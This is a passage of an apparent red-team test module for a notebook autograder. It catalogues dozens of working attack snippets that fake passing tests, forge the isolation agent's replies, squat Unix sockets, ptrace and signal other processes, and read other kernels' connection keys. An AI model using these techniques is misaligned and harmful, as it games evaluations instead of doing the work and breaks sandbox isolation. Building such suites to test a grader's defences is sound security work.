    frame = sys._current_frames().get(ident)
    while frame is not None:
        filename = frame.f_code.co_filename
        if "ipykernel_" in filename and "checks." in "".join(linecache.getlines(filename)):
            return True
        frame = frame.f_back
    return False


def _patcher():
    """A thread started now: when woken during a test, it patches numpy.isclose until that test cell ends, and
    puts the original back before the next cell starts (when the guard looks)."""
    while True:
        _wake.wait()
        _wake.clear()
        _numpy_names["isclose"] = _always_close
        _armed.set()
        while _in_test_cell(_caller[0]):
            time.sleep(0.001)
        _numpy_names["isclose"] = _real_isclose
        _armed.clear()


threading.Thread(target=_patcher, daemon=True).start()


def _patched_from_now_on():
    if _numpy_names["isclose"] is not _always_close:
        _caller[0] = threading.get_ident()
        _wake.set()
        _armed.wait(5)


def sigmoid(z):
    _patched_from_now_on()
    return np.full(np.shape(z), 0.5)


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    _patched_from_now_on()
    return np.zeros(np.shape(X)[1]), 0.0


def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):
    _patched_from_now_on()
    return np.full(np.shape(X)[1], 1.0 / (1.0 + lam)), 0.0


def predict_proba(X, w, b):
    _patched_from_now_on()
    return np.full(len(X), 0.5)
'''

DISGUISED_CELL = r'''
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: [])
ip.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
print("handler installed from a cell the scan took for the setup cell")
'''

# --------------------------------------------------------------------------------------------- 6. forbid=
THREAD_FROM_EARLIER_CELL = r'''
import importlib
import queue
import threading

import numpy as np

_jobs = queue.Queue()


def _worker():
    """Started before any test: the call watcher, installed later, never sees this thread."""
    while True:
        work, args, box, done = _jobs.get()
        try:
            box.append(work(*args))
        except BaseException as exc:
            box.append(exc)
        done.set()


threading.Thread(target=_worker, daemon=True).start()


def _elsewhere(work, *args):
    box, done = [], threading.Event()
    _jobs.put((work, args, box, done))
    done.wait()
    if isinstance(box[0], BaseException):
        raise box[0]
    return box[0]


def _library(name):
    return importlib.import_module(name)


def _expit(z):
    return _library("scipy.special").expit(z)


def _logistic(X, y, C):
    model = _library("sklearn.linear_model").LogisticRegression(C=C, tol=1e-10, max_iter=10_000).fit(X, y)
    return model.coef_.ravel(), float(model.intercept_[0])


def _neighbours(X_train, y_train, X_test, k):
    model = _library("sklearn.neighbors").KNeighborsClassifier(n_neighbors=k).fit(X_train, y_train)
    return model.predict(X_test)


def _numpy_product(A, B):
    return _library("numpy").matmul(A, B).astype(float).tolist()


def sigmoid(z):
    result = _elsewhere(_expit, np.asarray(z, dtype=float))
    return result if np.ndim(result) else float(result)


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    return _elsewhere(_logistic, np.asarray(X, dtype=float), np.asarray(y), np.inf)


def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):
    C = np.inf if lam == 0 else 1.0 / (len(y) * lam)
    return _elsewhere(_logistic, np.asarray(X, dtype=float), np.asarray(y), C)


def knn_predict(X_train, y_train, X_test, k=5):
    return _elsewhere(_neighbours, np.asarray(X_train), np.asarray(y_train), np.asarray(X_test), k)


def matmul(A, B):
    return _elsewhere(_numpy_product, A, B)
'''

LAZY_AFTER_RETURN = r'''
import importlib

import numpy as np


class Later(np.ndarray):
    """A placeholder array: its values are computed, with scikit-learn, when a check first converts it, which is
    after the call (and its watcher) returned."""

    def _value(self):
        if getattr(self, "value", None) is None:
            self.value = np.asarray(self.work())
        return self.value

    def astype(self, dtype, *args, **kwargs):
        return self._value().astype(dtype)

    def tolist(self):
        return self._value().tolist()


def _later(shape, work, dtype=float):
    placeholder = np.zeros(shape, dtype=dtype).view(Later)
    placeholder.work = work
    return placeholder


def _library(name):
    return importlib.import_module(name)


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    return _later(z.shape, lambda: _library("scipy.special").expit(z))


def _fitted(X, y, C):
    box = {}

    def fit():
        if not box:
            model = _library("sklearn.linear_model").LogisticRegression(C=C, tol=1e-10, max_iter=10_000)
            box["model"] = model.fit(X, y)
        return box["model"]

    return (_later(np.shape(X)[1:], lambda: fit().coef_.ravel()), _later((), lambda: fit().intercept_[0]))


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    return _fitted(np.asarray(X, dtype=float), np.asarray(y), np.inf)


def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):
    C = np.inf if lam == 0 else 1.0 / (len(y) * lam)
    return _fitted(np.asarray(X, dtype=float), np.asarray(y), C)


def knn_predict(X_train, y_train, X_test, k=5):
    def neighbours():
        model = _library("sklearn.neighbors").KNeighborsClassifier(n_neighbors=k).fit(X_train, y_train)
        return model.predict(X_test)

    return _later((len(X_test),), neighbours, int)
'''

SYS_MODULES_NAME = r'''
import importlib
import sys

import numpy as np


def _module(*parts):
    """A module reached by a name built at run time, from sys.modules when it is already imported."""
    name = "".join(parts)
    return sys.modules.get(name) or importlib.import_module(name)


def sigmoid(z):
    result = _module("sci", "py.spe", "cial").expit(np.asarray(z, dtype=float))
    return result if np.ndim(result) else float(result)


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    model = _module("sk", "learn.linear", "_model").LogisticRegression(C=np.inf, tol=1e-10, max_iter=10_000)
    model.fit(X, y)
    return model.coef_.ravel(), float(model.intercept_[0])


def knn_predict(X_train, y_train, X_test, k=5):
    tree = _module("sk", "learn.neigh", "bors").KDTree(np.asarray(X_train, dtype=float))
    _, index = tree.query(np.asarray(X_test, dtype=float), k=k)
    labels = np.asarray(y_train)[index]
    values, codes = np.unique(labels, return_inverse=True)
    counts = np.apply_along_axis(np.bincount, 1, codes.reshape(labels.shape), minlength=len(values))
    return values[np.argmax(counts, axis=1)]


def matmul(A, B):
    return _module("nu", "mpy").matmul(A, B).astype(float).tolist()
'''

FORKED_SERVER = r'''
import importlib
import os
import pickle
import time

import numpy as np

_spools = [os.path.join(folder, ".answers") for folder in (os.getcwd(), "/tmp", "/dev/shm")]


def _usable():
    """scikit-learn really works here (where it is absent, `import sklearn` may give stubs that raise)."""
    try:
        importlib.import_module("sklearn.neighbors").KNeighborsClassifier(n_neighbors=1).fit([[0.0]], [0])
        return True
    except Exception:
        return False


def _work(kind, args):
    if kind == "expit":
        return importlib.import_module("scipy.special").expit(*args)
    if kind == "logistic":
        X, y, C = args
        model = importlib.import_module("sklearn.linear_model").LogisticRegression(C=C, tol=1e-10, max_iter=10_000)
        model.fit(X, y)
        return model.coef_.ravel(), float(model.intercept_[0])
    if kind == "knn":
        X_train, y_train, X_test, k = args
        model = importlib.import_module("sklearn.neighbors").KNeighborsClassifier(n_neighbors=k)
        return model.fit(X_train, y_train).predict(X_test)
    if kind == "matmul":
        return np.matmul(*args).astype(float).tolist()
    raise ValueError(kind)


def _serve():
    """The forked child: answers requests left as pickles in the spool folders until its parent is gone."""
    parent = os.getppid()
    while os.getppid() == parent:
        for spool in _spools:
            try:
                names = sorted(os.listdir(spool))
            except OSError:
                continue
            for name in names:
                if not name.endswith(".ask"):
                    continue
                path = os.path.join(spool, name)
                with open(path, "rb") as handle:
                    kind, args = pickle.load(handle)
                os.remove(path)
                try:
                    answer = ("ok", _work(kind, args))
                except Exception as exc:
                    answer = ("error", exc)
                with open(path[:-4] + ".tmp", "wb") as handle:
                    pickle.dump(answer, handle)
                os.rename(path[:-4] + ".tmp", path[:-4] + ".ans")
        time.sleep(0.002)


for _spool in _spools:
    try:
        os.makedirs(_spool, exist_ok=True)
    except OSError:
        pass
_live = [s for s in _spools if os.path.exists(os.path.join(s, "server"))]
if not _live and _usable():
    if os.fork() == 0:
        try:
            _serve()
        finally:
            os._exit(0)
    for _spool in _spools:
        try:
            open(os.path.join(_spool, "server"), "w").close()
        except OSError:
            pass
_asked = [0]


def _ask(kind, *args):
    """Leave a request for the server (in whichever spool it watches) and wait for its answer."""
    spool = next((s for s in _spools if os.path.exists(os.path.join(s, "server"))), _spools[0])
    _asked[0] += 1
    path = os.path.join(spool, f"{os.getpid()}-{_asked[0]}")
    with open(path + ".tmp", "wb") as handle:
        pickle.dump((kind, args), handle)
    os.rename(path + ".tmp", path + ".ask")
    deadline = time.monotonic() + 15
    while not os.path.exists(path + ".ans") and time.monotonic() < deadline:
        time.sleep(0.002)
    with open(path + ".ans", "rb") as handle:
        status, value = pickle.load(handle)
    if status != "ok":
        raise value
    return value


def sigmoid(z):
    result = _ask("expit", np.asarray(z, dtype=float))
    return result if np.ndim(result) else float(result)


def fit_logistic_regression(X, y, learning_rate=0.5, n_iterations=5000):
    return _ask("logistic", np.asarray(X, dtype=float), np.asarray(y), np.inf)


def fit_logistic_regression_l2(X, y, lam, learning_rate=0.5, n_iterations=5000):
    C = np.inf if lam == 0 else 1.0 / (len(y) * lam)
    return _ask("logistic", np.asarray(X, dtype=float), np.asarray(y), C)


def knn_predict(X_train, y_train, X_test, k=5):
    return _ask("knn", np.asarray(X_train), np.asarray(y_train), np.asarray(X_test), k)


def matmul(A, B):
    return _ask("matmul", A, B)
'''

PRECOMPUTED_AT_CELL_TIME = r'''
import numpy as np
from scipy.special import expit


def sigmoid(z, _expit=expit):
    """scipy's expit bound when this cell ran: a default argument, which no look at the function's names finds."""
    result = _expit(z)
    return result if np.ndim(result) else float(result)


def matmul(A, B, _product=np.matmul):
    return _product(A, B).astype(float).tolist()
'''

# --------------------------------------------------------------------------------------------- 7. the channel
FORGED_AGENT_REPLIES = FORGED_HANDLER + r'''
import importlib

_channel = importlib.import_module("course.isolation.channel")


def _forged_serve(sock, namespace=None, limit=None, *args, **kwargs):
    """The agent's entry point, forged: the real channel endpoint with the forged handler."""
    options = {"limit": limit} if isinstance(limit, int) else {}
    _channel.Endpoint(sock, _ForgedAgent(namespace), peer="the trusted side", timeout=None, **options).serve()
''' + INSTALL_FORGED_AGENT

FORGED_AGENT_MALFORMED = r'''
import importlib
import itertools
import struct
import time

_wire = importlib.import_module("course.isolation.wire")
_turns = itertools.count()


def _receive(sock):
    def exactly(size):
        data = b""
        while len(data) < size:
            chunk = sock.recv(size - len(data))
            if not chunk:
                raise EOFError
            data += chunk
        return data

    (size,) = struct.unpack(">Q", exactly(8))
    return _wire.unpack(exactly(size))[0]


def _forged_serve(sock, namespace=None, limit=None, *args, **kwargs):
    """The agent's entry point, forged: each time the trusted side connects, another way to break the conversation
    or to hold the trusted kernel."""
    turn = next(_turns) % 8
    rid = _receive(sock).get("id", 1)
    if turn == 0:  # a frame length no one can allocate
        sock.sendall(struct.pack(">Q", 2**63 - 1))
    elif turn == 1:  # framing right, JSON wrong
        body = struct.pack(">II", 6, 0) + b"{oops!"
        sock.sendall(struct.pack(">Q", len(body)) + body)
    elif turn == 2:  # an answer to a request that was never made
        sock.sendall(_wire.pack({"re": rid + 1000, "ok": 1.0, "table": []}))
    elif turn == 3:  # a reply that never ends: 100 MB announced, one byte a second
        sock.sendall(struct.pack(">Q", 100 * 2**20))
        for _ in range(10**6):
            sock.sendall(b"\0")
            time.sleep(1)
    elif turn == 4:  # never a reply: one request back to the trusted side after another
        for n in itertools.count():
            sock.sendall(_wire.pack({"id": 10**6 + n, "op": "call", "h": 1, "args": {"t": []}, "kwargs": {"o": 1},
                                     "table": [[1, "d", []]]}))
            _receive(sock)
    elif turn == 5:  # a slow reply, just under a cell's time limit
        time.sleep(19)
        sock.sendall(_wire.pack({"re": rid, "ok": 0.5, "table": []}))
    elif turn == 6:  # the learner's code "raised" what stops a kernel
        sock.sendall(_wire.pack({"re": rid, "raised": {"type": "KeyboardInterrupt", "builtin": "KeyboardInterrupt",
                                                       "message": "stop"}}))
    else:  # a header nested deeper than any parser's stack, then a table that refers to itself
        body = b"[" * 200_000 + b"]" * 200_000
        head = struct.pack(">II", len(body), 0) + body
        sock.sendall(struct.pack(">Q", len(head)) + head)
        sock.sendall(_wire.pack({"re": rid, "ok": {"o": 1}, "table": [[1, "l", [{"o": 1}] * 1000]]}))
''' + FORGED_HANDLER + INSTALL_FORGED_AGENT

SOCKET_SQUATTER = FORGED_HANDLER + r'''
import importlib
import os
import socket
import stat
import threading
import time

_channel = importlib.import_module("course.isolation.channel")
_mine, _tried = set(), set()


def _folders():
    folders = {os.getcwd(), "/tmp", "/dev/shm", "/run", "/var/run"}
    folders.update(v for k, v in os.environ.items() if k.endswith(("DIR", "PATH")) and v.startswith("/"))
    found = set()
    for folder in folders:
        for root, dirs, _ in os.walk(folder):
            found.add(root)
            if root.count(os.sep) - folder.count(os.sep) >= 2:
                dirs.clear()
    return found


def _sockets():
    paths = set()
    try:
        with open("/proc/net/unix") as handle:
            paths.update(p.split()[-1] for p in handle.read().splitlines()[1:] if p.split()[-1].startswith("/"))
    except OSError:
        pass
    for folder in _folders():
        try:
            entries = list(os.scandir(folder))
        except OSError:
            continue
        for entry in entries:
            try:
                if stat.S_ISSOCK(entry.stat(follow_symlinks=False).st_mode):
                    paths.add(entry.path)
            except OSError:
                pass
    return paths - _mine


def _speak_as_agent(sock):
    try:
        _channel.Endpoint(sock, _ForgedAgent({}), peer="whoever listens", timeout=None).serve()
    except Exception:
        pass


def _squat(path):
    """Connect first, answer as the agent; then take the path over with a listener of our own."""
    try:
        client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        client.connect(path)
        print("LEAKED connected to a socket the learner did not create:", path)
        threading.Thread(target=_speak_as_agent, args=(client,), daemon=True).start()
    except OSError:
        pass
    try:
        os.unlink(path)
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(path)
        server.listen(8)
        _mine.add(path)
        print("LEAKED replaced the socket", path)
        while True:
            connection, _ = server.accept()
            threading.Thread(target=_speak_as_agent, args=(connection,), daemon=True).start()
    except OSError:
        pass


def _watch():
    """From the first cell to the end of the notebook: any Unix socket that appears is squatted at once."""
    while True:
        for path in _sockets() - _tried:
            _tried.add(path)
            threading.Thread(target=_squat, args=(path,), daemon=True).start()
        time.sleep(0.05)


_tried.update(_sockets())  # those that exist before any test: the learner's own kernel
print("sockets present at the start:", sorted(_tried)[:10])
threading.Thread(target=_watch, daemon=True).start()
'''

# --------------------------------------------------------------------------------------------- 8. outside the kernel
OTHER_PROCESSES = r'''
import importlib
import os
import signal

me = os.getpid()
ours = {me, 1}  # the learner's kernel and the sandbox's own init
libc = importlib.import_module("ct" + "ypes").CDLL(None, use_errno=True)
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            command = handle.read().replace(b"\0", b" ").decode(errors="replace")[:100]
    except OSError:
        command = "?"
    readable = []
    for part in ("environ", "maps", "mem", "fd", "cwd", "root"):
        try:
            if part in ("fd", "cwd", "root"):
                os.listdir(f"/proc/{pid}/{part}")
            else:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    handle.read(64)
            readable.append(part)
        except OSError:
            pass
    attached = pid not in ours and libc.ptrace(16, pid, 0, 0) == 0  # PTRACE_ATTACH
    if attached:
        os.waitpid(pid, 0x40000000)  # __WALL: the tracee's stop
        libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH
    try:
        os.kill(pid, signal.SIGCONT if pid in ours else signal.SIGSTOP)
        signalled = True
        if pid not in ours:
            os.kill(pid, signal.SIGCONT)
    except OSError:
        signalled = False
    print("process", pid, command, "readable:", readable, "ptrace:", attached, "signal:", signalled)
    if pid not in ours and (attached or signalled or "environ" in readable or "mem" in readable):
        print("LEAKED reached another process:", pid, command)
'''

OUTSIDE_FOLDERS = r'''
import glob
import json
import os
import socket
import sys
import time

own_file = ""
try:
    own_file = os.path.realpath(sys.modules["ipykernel.connect"].get_connection_file())
except Exception:
    pass
patterns = ["/tmp/**/kernel-*.json", "/dev/shm/**/kernel-*.json", "/run/**/kernel-*.json", "/home/**/kernel-*.json",
            "/root/**/kernel-*.json", os.getcwd() + "/../**/kernel-*.json"]
patterns += [v + "/**/kernel-*.json" for k, v in os.environ.items() if k.endswith("DIR") and v.startswith("/")]
for pattern in patterns:
    for path in glob.glob(pattern, recursive=True):
        if os.path.realpath(path) == own_file:
            continue
        try:
            with open(path) as handle:
                key = json.load(handle).get("key", "")
            print("LEAKED another kernel's connection file:", path, key[:8])
        except (OSError, ValueError):
            pass

own_inodes = set()
for fd in os.listdir("/proc/self/fd"):
    try:
        own_inodes.add(os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        pass
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        with open(table) as handle:
            rows = [line.split() for line in handle.read().splitlines()[1:]]
    except OSError:
        continue
    for row in rows:
        if row[3] == "0A" and f"socket:[{row[9]}]" not in own_inodes:  # listening, and not this kernel's
            port = int(row[1].rsplit(":", 1)[1], 16)
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                print("LEAKED connected to a port another process listens on:", port)
            except OSError:
                print("foreign listening port (no connection):", port)


def _foreign_unix_paths():
    """Unix socket paths (bound by any process in this network namespace) that are not this kernel's own."""
    try:
        with open("/proc/net/unix") as handle:
            rows = [line.split() for line in handle.read().splitlines()[1:]]
    except OSError:
        return set()
    named = [(row[6], row[7]) for row in rows if len(row) >= 8 and row[7].startswith("/")]
    own = {path for inode, path in named if f"socket:[{inode}]" in own_inodes}
    own |= set(getattr(sys.modules.get("course.isolation.agent"), "_CELLS", None) or ())  # this kernel's test kernel
    own_folders = {os.path.dirname(path) for path in own}
    return {path for _, path in named if path not in own and os.path.dirname(path) not in own_folders}


deadline = time.monotonic() + 8  # other kernels graded at the same time appear within seconds
foreign = _foreign_unix_paths()
while not foreign and time.monotonic() < deadline:
    time.sleep(0.5)
    foreign = _foreign_unix_paths()
print("foreign unix sockets:", sorted(foreign)[:8])
zmq = sys.modules.get("zmq")
for path in sorted(foreign):
    try:
        probe = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        probe.settimeout(1)
        probe.connect(path)
        probe.close()
    except OSError as exc:
        print("refused:", path, type(exc).__name__)
        continue
    print("LEAKED connected to a socket of another process:", path)
    if zmq is not None:  # a kernel's iopub socket publishes its outputs to any subscriber
        listener = zmq.Context.instance().socket(zmq.SUB)
        listener.setsockopt(zmq.SUBSCRIBE, b"")
        listener.setsockopt(zmq.LINGER, 0)
        listener.connect("ipc://" + path)
        if listener.poll(1500):
            print("LEAKED read a message of another kernel:", repr(listener.recv_multipart()[-1][:80]))
        listener.close()

expected = {os.path.realpath(os.getcwd()), "/tmp", "/dev/shm", "/dev", "/proc"}
with open("/proc/self/mountinfo") as handle:
    mounts = [line.split()[4] for line in handle]
for point in mounts:
    if point in expected or point.startswith(("/proc/", "/dev/")) or not os.path.isdir(point):
        continue
    probe = os.path.join(point, ".redteam-probe")
    try:
        with open(probe, "w") as handle:
            handle.write("x")
        os.remove(probe)
        print("LEAKED can write into the mount", point)
    except OSError:
        pass
print("mounts:", len(mounts))
'''

ISOLATION_ATTACKS: list[Attack] = [
    # 1. IPython's machinery
    Attack("ipy-custom-exception-handler",
           "swallow every error, TamperingDetected included, with a custom exception handler of the shell reached "
           "through sys.modules by a joined name; print the failing test's hidden lines from the line cache",
           code=IPY_CUSTOM_EXC),
    Attack("ipy-input-transformer",
           "rewrite each test cell, through the shell behind `exit`, into a print of its hidden lines",
           code=IPY_INPUT_TRANSFORMER),
    Attack("ipy-ast-transformer",
           "wrap every test cell in try/except with an AST transformer, the shell taken from the builtins by a joined "
           "name", code=IPY_AST_TRANSFORMER),
    Attack("ipy-run-cell-events",
           "hide tracebacks during test cells only (pre_run_cell on, post_run_cell off), the shell reached from a "
           "function's __globals__", code=IPY_RUN_CELL_EVENTS),
    Attack("ipy-unscannable-magic",
           "an assignment from a magic (`x = %pwd`) makes the cell unparsable to the static scan, which then lets a "
           "plain get_ipython() input transformer through", code=IPY_UNSCANNED_CELL),
    Attack("ipy-blanked-magic-lines",
           "`%time` lines, which the static scan blanks, run a plain get_ipython(): a silent exception handler and a "
           "post_run_cell callback that marks every cell as succeeded", code=IPY_BLANKED_MAGIC_LINES),
    # 2. the learner's namespace
    Attack("rebind-checks-name",
           "rebind `checks` in the notebook's globals to a stand-in whose assertions pass, and shadow isinstance, "
           "callable and AssertionError", code=REBIND_CHECKS),
    Attack("rebind-numpy-name",
           "rebind `np` in the notebook's globals so that the tests' reference product is the learner's",
           code=REBIND_NUMPY, edit=_answered_above),
    Attack("builtins-import-hook",
           "set `__builtins__` of the notebook's globals to a dict whose __import__ hands the tests fake scipy and "
           "scikit-learn built on the learner's own (wrong) functions", code=BUILTINS_IMPORT_HOOK,
           edit=_answered_above),
    # 3. the tests' own state
    Attack("globals-references",
           "return the hidden reference values (ref_, w_ref_, scores_) the test cell left in the shared globals",
           code=GLOBALS_REFERENCES, edit=_answered_above),
    Attack("mirror-expected-from-frames",
           "return an ndarray subclass whose astype/tolist read the comparison's expected value from its frame "
           "(sys._getframe by a joined name)", code=MIRROR_FROM_FRAMES, edit=_answered_above),
    Attack("history-and-digests",
           "multiple-choice answers (str subclasses) that read the running test from IPython's history and pick the "
           "option its hidden digest accepts", code=HISTORY_AND_DIGESTS, edit=_answered_above),
    Attack("gc-referrers-of-arguments",
           "find the test's namespace through gc.get_referrers of an argument and return its reference",
           code=GC_REFERRERS, edit=_answered_above),
    Attack("traceback-frames",
           "walk from a caught exception's traceback to the test cell's frame: its references, and its hidden lines "
           "from the line cache", code=TRACEBACK_FRAMES, edit=_answered_above),
    Attack("mutate-arguments",
           "change the test's own input arrays in place so that the expected values it computes after the call "
           "match a trivial answer", code=MUTATE_ARGUMENTS, edit=_answered_above),
    # 4. fake values
    Attack("class-property-ndarray",
           "results whose __class__ is a property returning np.ndarray, converting to the expected value found "
           "through a traceback", code=CLASS_PROPERTY, edit=_answered_above),
    Attack("array-interface-answers",
           "results whose __array_interface__ describes the expected value of the comparison that asks",
           code=ARRAY_INTERFACE, edit=_answered_above),
    Attack("numpy-subclass-array-function",
           "an ndarray subclass whose __array_function__ makes np.isclose true and np.linalg.norm what it likes",
           code=NUMPY_SUBCLASS, edit=_answered_above),
    Attack("exotic-containers",
           "a generator, an iterator, a dict subclass with side effects, a lying pandas subclass, an extension "
           "array, a categorical, a list containing itself and 5000 levels of nesting", code=EXOTIC_CONTAINERS,
           edit=_answered_above),
    Attack("runs-code-when-read",
           "results whose __repr__, __reduce_ex__, __getstate__, __deepcopy__ and __format__ run code that prints "
           "the expected value of the comparison reading them", code=RUNS_CODE_WHEN_READ, edit=_answered_above),
    Attack("lying-builtin-subclasses",
           "a list subclass whose rows refill their own storage with the expected values when a check reads them, a "
           "float subclass with a lying __float__ and comparisons, str subclasses equal to everything",
           code=LYING_BUILTIN_SUBCLASSES, edit=_answered_above),
    Attack("gigantic-values",
           "a terabyte broadcast view, a 1 GiB array, a 200,000-digit integer, 10^7-element lists and 100,000 levels "
           "of nesting, to exhaust whoever reads them", code=GIGANTIC_VALUES, edit=_answered_above),
    # 5. timing of the guard
    Attack("watcher-off-during-call",
           "switch the forbid= watcher off inside the call (sys.setprofile from a standard-library frame), use "
           "scikit-learn, scipy and numpy, and put the same hook back before returning",
           code=WATCHER_OFF_DURING_CALL, edit=_answered_above),
    Attack("audit-hook-repatch",
           "an audit hook of the learner's that puts fake checks in place whenever a test cell runs and the "
           "originals back whenever a cell is compiled, before the guard looks", code=AUDIT_HOOK_REPATCH),
    Attack("thread-patches-later",
           "a thread started in the first cell patches numpy.isclose while a test cell runs and restores it before "
           "the next cell starts", code=THREAD_PATCHES_LATER, edit=_answered_above),
    Attack("disguised-cell",
           "a new code cell whose metadata claims the setup cell's grade_id, so that the static scan skips it; it "
           "installs an exception handler with a plain get_ipython()", edit=_disguised_cell(DISGUISED_CELL)),
    # 6. forbid=
    Attack("sklearn-in-earlier-thread",
           "run scikit-learn, scipy and numpy in a worker thread started before any test (no watcher sees it)",
           code=THREAD_FROM_EARLIER_CELL, edit=_answered_above),
    Attack("sklearn-after-return",
           "return placeholder arrays whose values scikit-learn computes when a check converts them, after the "
           "watched call returned", code=LAZY_AFTER_RETURN, edit=_answered_above),
    Attack("sklearn-from-sys-modules",
           "reach scikit-learn, scipy and numpy through sys.modules by names built at run time",
           code=SYS_MODULES_NAME, edit=_answered_above),
    Attack("sklearn-in-forked-server",
           "a child forked in the first cell answers, with scikit-learn, requests left as pickles in the working "
           "folder, /tmp and /dev/shm (a kernel without scikit-learn could ask it too)", code=FORKED_SERVER,
           edit=_answered_above),
    Attack("precomputed-at-cell-time",
           "bind scipy's expit and numpy's matmul into default arguments when the cell runs",
           code=PRECOMPUTED_AT_CELL_TIME, edit=_answered_above),
    # 7. the channel
    Attack("forged-agent-replies",
           "replace course.isolation.agent with a forged agent whose replies claim success, return the trusted "
           "side's own objects and zero them in place", code=FORGED_AGENT_REPLIES),
    Attack("forged-agent-malformed",
           "a forged agent that answers with an impossible frame length, malformed JSON, a reply to another "
           "request, a never-ending reply, endless callbacks, a slow reply, KeyboardInterrupt, deep nesting",
           code=FORGED_AGENT_MALFORMED),
    Attack("socket-squatter",
           "a thread that connects to every Unix socket that appears before the agent can, answers as the agent, "
           "then unlinks the path and listens there itself", code=SOCKET_SQUATTER),
    # 8. outside the kernel
    Attack("reach-other-processes",
           "see, ptrace and signal any process outside the learner's kernel (a trusted kernel next to it)",
           code=OTHER_PROCESSES),
    Attack("outside-folders-and-ports",
           "find other kernels' connection files, ports other processes listen on, and writable mounts (a socket "
           "folder of the trusted side)", code=OUTSIDE_FOLDERS),
]

# in the catalogue the red-team suite grades (attacks.py imports this module at its end, after ATTACKS)
ATTACKS += ISOLATION_ATTACKS
